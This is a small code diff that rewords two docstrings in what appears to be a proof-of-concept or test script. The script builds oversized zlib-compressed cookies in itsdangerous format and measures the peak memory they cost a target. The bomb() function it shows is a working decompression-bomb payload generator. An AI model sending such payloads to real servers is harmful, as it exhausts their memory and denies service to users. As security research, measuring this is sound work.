@@ -24,7 +24,7 @@ MEGABYTE = 2**20
 
 
 def peak(cookie: str) -> int:
-    """Give the most memory that a request with this Cookie header takes at one time, in bytes."""
+    """Return the most memory that a request with this Cookie header takes at one time, in bytes."""
     VICTIM.sees(cookie)
     tracemalloc.start()
     try:
@@ -35,7 +35,7 @@ def peak(cookie: str) -> int:
 
 
 def bomb(size: int, text: str = "a") -> str:
-    """Give our payload of so many bytes, compressed, as stock itsdangerous would write it."""
+    """Return our payload of so many bytes, compressed, as stock itsdangerous would write it."""
     plain = f'[0,{{"user":"{text * size}"}}]'.encode()
     return "." + to_base64(zlib.compress(plain, 9))
 
